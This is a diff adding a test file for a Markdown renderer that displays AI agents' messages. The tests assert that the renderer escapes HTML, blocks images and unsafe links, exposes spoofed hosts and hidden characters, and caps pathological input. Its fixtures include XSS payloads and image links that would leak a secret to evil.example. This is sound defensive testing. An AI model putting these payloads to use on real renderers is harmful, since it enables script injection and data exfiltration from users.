@@ -1,0 +1,83 @@
+import { renderToStaticMarkup } from 'react-dom/server';
+import { describe, expect, it } from 'vitest';
+import { Markdown } from './markdown';
+
+const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);
+
+describe('Markdown of agents', () => {
+  it('formats what people write', () => {
+    const page = html('Found **nine** vendors:\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |');
+
+    expect(page).toContain('<strong>nine</strong>');
+    expect(page).toContain('<li>one</li>');
+    expect(page).toContain('<table');
+  });
+
+  it('shows HTML as the text that it is', () => {
+    const page = html('<script>alert(1)</script> and <img src=x onerror=alert(1)>\n\n<b>bold</b>');
+
+    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
+    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
+    expect(page).not.toMatch(/<(script|img|b)\b/);
+  });
+
+  it('loads no picture, and shows where it would come from', () => {
+    for (const text of [
+      '![plan](https://evil.example/?q=secret)',
+      '![plan][1]\n\n[1]: https://evil.example/?q=secret',
+    ]) {
+      const page = html(text);
+
+      expect(page).not.toContain('<img');
+      expect(page).toContain('Picture not loaded');
+      expect(page).toContain('https://evil.example/?q=secret');
+    }
+  });
+
+  it('opens only http, https and mail, in a page that learns nothing', () => {
+    const page = html(
+      '[a](https://a.example) [b](javascript:alert(1)) [c](data:text/html,x) [d](//evil.example)',
+    );
+
+    expect(page.match(/href="[^"]*"/g)).toEqual(['href="https://a.example/"']);
+    expect(page).toContain('rel="noopener noreferrer nofollow ugc"');
+  });
+
+  it('names the real host where a link pretends another one', () => {
+    expect(html('[x](https://good.example@evil.example/)')).toContain('opens evil.example');
+    expect(html('[https://good.example](https://evil.example/)')).toContain('opens evil.example');
+    expect(html('[x](https://аррӏе.com/)')).toContain('opens xn--80ak6aa92e.com');
+  });
+
+  it('draws hidden characters by their names, also in code', () => {
+    const page = html('`a\u202eb` and c\u200bd');
+
+    expect(page).toContain('data-char="RLO"');
+    expect(page).toContain('data-char="ZWSP"');
+  });
+
+  it('gives nothing of a message an id of the page', () => {
+    const page = html('text[^1]\n\n[^1]: note');
+
+    expect(page).not.toMatch(/\sid="(?!user-content-)/);
+  });
+
+  it.each([
+    ['nested quotes', `${'>'.repeat(50)} *x*`],
+    ['nested lists', `${'- '.repeat(50)}*x*`],
+    ['marks beyond counting', '*a '.repeat(1_300)],
+    ['a text beyond reading', `*a* ${'x'.repeat(13_000)}`],
+  ])('shows %s as it stands, because formatting it would hold the page up', (_, text) => {
+    const page = html(text);
+
+    expect(page).not.toMatch(/<(em|blockquote|li)\b/);
+    expect(page).toContain(text.slice(0, 20).replaceAll('>', '&gt;'));
+  });
+
+  it('shows the beginning of a text without an end, and offers the rest', () => {
+    const page = html('x'.repeat(1_000_000));
+
+    expect(page.length).toBeLessThan(10_000);
+    expect(page).toContain('Show all 1.0 MB');
+  });
+});
